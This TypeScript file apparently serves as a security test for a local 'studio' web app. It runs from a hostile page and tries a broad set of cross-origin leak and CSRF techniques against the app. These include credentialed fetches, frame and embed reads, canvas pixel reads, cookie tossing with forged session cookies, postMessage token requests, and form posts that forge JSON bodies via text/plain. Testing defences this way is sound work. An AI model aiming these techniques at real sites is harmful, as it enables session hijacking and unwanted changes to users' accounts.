/** What a hostile page knows: where the studio is, a job of its owner, and calls that would change something. */
export type Prey = {
  origin: string
  jobId: string
  reads: string[]
  changes: Array<{ method: string; path: string; body: string }>
  /** How long an attempt may take. */
  patienceMs: number
  /** Attempts that are enough once each got something; with none, all are waited for. */
  wanted: string[]
}
/** One attempt and what the page got out of it; `got` is empty when it got nothing. */
export type Attempt = { name: string; got: string }

/**
 * Runs in the page: tries everything that a page can do to another origin, and tells what it could read. Whether
 * something was changed is not for the page to know.
 */
export async function tryEverything(prey: Prey): Promise<Attempt[]> {
  const { origin, jobId, reads, changes, patienceMs, wanted } = prey
  const clip = `${origin}/media/${jobId}/clip.mp4`
  const cover = `${origin}/media/${jobId}/cover.jpg`
  const waiting: Array<Promise<Attempt>> = []
  const successes: Attempt[] = []
  const enough = Promise.withResolvers<Attempt[]>()
  const attempt = (name: string, run: () => Promise<unknown>) => {
    const patience = new Promise<string>((resolve) => setTimeout(resolve, patienceMs, ''))
    const outcome = Promise.resolve()
      .then(run)
      .then(
        (got) => (typeof got === 'string' ? got : got ? JSON.stringify(got) : ''),
        () => '',
      )
    waiting.push(
      Promise.race([outcome, patience]).then((whole) => {
        const got = whole.slice(0, 200)
        if (got !== '') successes.push({ name, got })
        const isEnough = wanted.every((one) => successes.some((success) => success.name === one))
        if (wanted.length > 0 && isEnough) enough.resolve(successes)
        return { name, got }
      }),
    )
  }
  const put = <K extends keyof HTMLElementTagNameMap>(tag: K, attributes: Record<string, string>) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  }
  const loaded = (element: EventTarget, event = 'load') =>
    new Promise<boolean>((resolve) => {
      element.addEventListener(event, () => resolve(true))
      element.addEventListener('error', () => resolve(false))
    })
  /** Not every refused frame says that it is done: it is looked into in any case. */
  const shown = (element: EventTarget) =>
    Promise.race([loaded(element), new Promise((resolve) => setTimeout(resolve, patienceMs - 1500))])
  const pixels = (source: CanvasImageSource) => {
    const pen = document.createElement('canvas').getContext('2d')
    pen?.drawImage(source, 0, 0, 8, 8)
    return pen?.getImageData(0, 0, 8, 8).data.some((value) => value > 0)
  }

  for (const path of reads) {
    const url = origin + path
    attempt(`fetch ${path}`, async () => (await fetch(url, { credentials: 'include' })).text())
    attempt(`fetch without CORS ${path}`, async () =>
      (await fetch(url, { mode: 'no-cors', credentials: 'include' })).text(),
    )
    attempt(`XMLHttpRequest ${path}`, () => {
      const request = new XMLHttpRequest()
      request.open('GET', url)
      request.withCredentials = true
      request.send()
      return loaded(request).then(() => request.responseText)
    })
    attempt(`frame ${path}`, async () => {
      const frame = put('iframe', { src: url })
      await shown(frame)
      return frame.contentDocument?.body.textContent ?? (frame.contentWindow?.length ? 'frames' : '')
    })
    attempt(`script ${path}`, () => loaded(put('script', { src: url })))
    attempt(`module ${path}`, () => import(/* @vite-ignore */ url).then(() => 'a module'))
    attempt(`style ${path}`, async () => {
      const link = put('link', { rel: 'stylesheet', href: url })
      return (await loaded(link)) && (link.sheet?.cssRules.length ?? 0)
    })
    attempt(`preload ${path}`, () =>
      loaded(put('link', { rel: 'preload', as: 'fetch', crossorigin: 'use-credentials', href: url })),
    )
    attempt(`timing ${path}`, async () => {
      await loaded(put('img', { src: `${url}#timing` }))
      const entries = performance.getEntriesByType('resource').filter(({ name }) => name.startsWith(url))
      return entries.some((entry) => 'encodedBodySize' in entry && Number(entry.encodedBodySize) > 0)
    })
    attempt(`events ${path}`, async () => {
      const source = new EventSource(url, { withCredentials: true })
      return (await loaded(source, 'open')) && 'open'
    })
  }
  attempt('picture', async () => (await loaded(put('img', { src: cover }))) && 'loaded')
  attempt(
    'picture with CORS',
    async () => (await loaded(put('img', { src: cover, crossorigin: 'use-credentials' }))) && 'loaded',
  )
  attempt('pixels of a picture', async () => {
    const picture = put('img', { src: cover })
    return (await loaded(picture)) && pixels(picture)
  })
  for (const extra of [{}, { crossorigin: 'use-credentials' }])
    attempt(`pixels of a clip ${JSON.stringify(extra)}`, async () => {
      const video = put('video', { src: clip, muted: '', autoplay: '', ...extra })
      return (await loaded(video, 'loadeddata')) && (pixels(video) || `${video.videoWidth}`)
    })
  attempt('sound', async () => (await loaded(put('audio', { src: clip }), 'loadedmetadata')) && 'loaded')
  attempt(
    'object',
    async () => (await loaded(put('object', { data: cover, type: 'image/jpeg' }))) && 'loaded',
  )
  attempt('embed', async () => {
    const embed = put('embed', { src: `${origin}/api/session`, type: 'text/html' })
    await shown(embed)
    return embed.getSVGDocument()?.textContent
  })
  attempt('font', async () => (await new FontFace('stolen', `url(${origin}/api/session)`).load()).family)
  attempt('worker', () => loaded(new Worker(`${origin}/assets/app.js`), 'message'))
  attempt('worker that imports', () => {
    const code = `importScripts(${JSON.stringify(`${origin}/api/session`)}); postMessage(1)`
    return loaded(new Worker(URL.createObjectURL(new Blob([code]))), 'message')
  })
  attempt('service worker', async () => (await navigator.serviceWorker.register(`${origin}/sw.js`)).scope)
  attempt('socket', () => loaded(new WebSocket(`${origin.replace('http', 'ws')}/api/changes`), 'open'))
  attempt('cookies', async () => document.cookie.match(/genray_session\w*=\w+/)?.[0])
  // Cookies are shared between the ports of a name: a session that is nobody's, before the owner's own.
  attempt('cookies of its own', async () => {
    for (const path of ['/', '/api', '/api/session', '/media', '/media/'])
      document.cookie = `genray_session_${new URL(origin).port}=${'x'.repeat(43)}; path=${path}`
  })
  attempt('window', async () => {
    const opened = window.open(origin)
    const heard = loaded(window, 'message')
    const timer = setInterval(() => opened?.postMessage({ type: 'token', give: 'everything' }, '*'), 200)
    await Promise.race([heard, new Promise((resolve) => setTimeout(resolve, patienceMs - 1500))])
    clearInterval(timer)
    const seen =
      opened && !opened.closed && opened.location.href !== 'about:blank' ? opened.document.title : ''
    opened?.close()
    return seen
  })

  for (const { method, path, body } of changes) {
    const url = origin + path
    const types = [
      'application/json',
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data',
    ]
    for (const type of types) {
      attempt(`${method} ${type} ${path}`, async () =>
        (
          await fetch(url, { method, body, credentials: 'include', headers: { 'content-type': type } })
        ).text(),
      )
      if (method !== 'POST') continue
      attempt(`blind ${type} ${path}`, async () =>
        (
          await fetch(url, {
            method,
            mode: 'no-cors',
            keepalive: true,
            credentials: 'include',
            body: new Blob([body], { type }),
          })
        ).text(),
      )
      attempt(
        `beacon ${type} ${path}`,
        async () => void navigator.sendBeacon(url, new Blob([body], { type })),
      )
    }
    if (method !== 'POST') continue
    attempt(`blind nothing ${path}`, async () =>
      (await fetch(url, { method, mode: 'no-cors', credentials: 'include' })).text(),
    )
    attempt(`form nothing ${path}`, async () => {
      const name = `frame${Math.random()}`
      const frame = put('iframe', { name })
      put('form', { action: url, method: 'post', target: name }).submit()
      await shown(frame)
      return frame.contentDocument?.body.textContent
    })
    for (const enctype of types.slice(1))
      attempt(`form ${enctype} ${path}`, async () => {
        const name = `frame${Math.random()}`
        const frame = put('iframe', { name })
        const form = put('form', { action: url, method: 'post', enctype, target: name })
        // As text/plain this field becomes the very JSON that the call expects.
        const at = body.lastIndexOf('}')
        const field = document.createElement('input')
        field.name = `${body.slice(0, at)},"x":"`
        field.value = '"}'
        form.append(field)
        form.submit()
        await shown(frame)
        return frame.contentDocument?.body.textContent
      })
    attempt(`ping ${path}`, async () => put('a', { href: '#ping', ping: url }).click())
  }
  return Promise.race([Promise.all(waiting), enough.promise])
}
